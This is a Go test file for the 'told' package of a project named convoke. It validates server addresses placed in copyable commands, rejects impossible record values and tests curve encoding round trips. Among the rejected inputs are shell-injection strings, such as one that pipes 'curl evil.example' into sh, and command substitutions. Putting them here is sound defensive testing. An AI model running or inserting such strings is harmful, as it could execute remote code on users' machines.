package told

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"convoke/internal/archive"
	"convoke/internal/record/box"
)

var (
	now = time.Date(2026, 11, 28, 12, 0, 0, 0, time.UTC)
	id  = strings.Repeat("a", 26)
)

func look() *archive.Import { return &archive.Import{Now: now} }

// Only what can stand in a command to copy is an address of a server.
func TestOnlyOriginsAreServers(t *testing.T) {
	t.Parallel()
	for server, want := range map[string]bool{
		"https://one.example": true, "http://127.0.0.1:8080": true, "https://xn--bcher-kva.example:443": true, "http://[::1]:80": true, "http://abc.onion": true,
		"": false, "one.example": false, "javascript:alert(1)": false, "https://one.example/path": false, "https://one.example/": false,
		"https://a.example/;curl evil.example|sh;": false, "https://$(id).example": false, "https://a.example`id`": false, "https://a b.example": false,
		" https://one.example": false, "https://one.example\n": false, "https://one.example\u202e": false, "https://u:p@one.example": false,
		"https://one.example?x": false, "https://one.example#x": false, "https://-.example-": false, "https://ONE.example": false,
	} {
		r := &Record{Server: server, Box: id, Day: "2026-11-28"}
		if got := r.Could(look(), 0); got != want {
			t.Errorf("%q: %v", server, got)
		}
	}
}

func TestNumbersThatCannotBe(t *testing.T) {
	t.Parallel()
	fine := func() *Record {
		return &Record{Server: "https://one.example", Box: id, Day: "2026-11-28", Counted: 5, Issued: 6, Curves: [][]Step{{{1, 2}, {9, 3}}}}
	}
	if !fine().Could(look(), 1) {
		t.Fatal("what can be is refused")
	}
	for name, change := range map[string]func(r *Record){
		"a day to come":       func(r *Record) { r.Day = "2026-12-24" },
		"no day":              func(r *Record) { r.Day = "" },
		"no box":              func(r *Record) { r.Box = "../x" },
		"fewer than nobody":   func(r *Record) { r.Issued = -1 },
		"more than there are": func(r *Record) { r.Counted = maxNumber + 1 },
		"another curve":       func(r *Record) { r.Curves = append(r.Curves, nil) },
		"nobody waited for":   func(r *Record) { r.Curves[0][0].Threshold = 0 },
		"one twice":           func(r *Record) { r.Curves[0][1].Threshold = 1 },
		"more than counted":   func(r *Record) { r.Curves[0][1].People = 4 },
		"very many steps": func(r *Record) {
			r.Counted = maxSteps + 9
			for i := range maxSteps {
				r.Curves[0] = append(r.Curves[0], Step{uint64(10 + i), 1})
			}
		},
		"very many goals": func(r *Record) { r.Reached = make([]Reached, maxReached+1) },
	} {
		r := fine()
		if change(r); r.Could(look(), 1) {
			t.Errorf("%s could be", name)
		}
	}
	r := fine()
	r.Reached = []Reached{{3, now.AddDate(7000, 0, 0)}}
	if !r.Could(look(), 1) || r.Reached[0].At.After(now) {
		t.Errorf("reached on %v", r.Reached)
	}
}

// What a box of this server can hold is told so that another server takes it, and
// nothing stands there that did not here.
func TestEveryCurveCanBeTold(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		parts := rapid.IntRange(1, 4).Draw(t, "parts")
		var n box.Numbers
		var all [][]box.Step
		for p := range parts {
			var steps []box.Step
			var last uint64
			for range rapid.IntRange(0, 6000).Draw(t, fmt.Sprint("steps ", p)) {
				last += rapid.Uint64Range(1, 5).Draw(t, "further")
				steps = append(steps, box.Step{Threshold: last, People: 1})
				n.Counted++
			}
			all = append(all, steps)
		}
		r := New("https://one.example", id, now, &n)
		for _, steps := range all {
			r.AddCurve(steps, parts)
		}
		r, err := Read(r.Text())
		if err != nil || !r.Could(look(), parts) {
			t.Fatalf("it could not be: %v, %v", r, err)
		}
		for i := range all {
			if a, b := box.Standing(all[i]), box.Standing(r.Steps(i)); b > a || len(all[i]) < 900 && a != b {
				t.Errorf("%d stand, told are %d", a, b)
			}
		}
	})
}
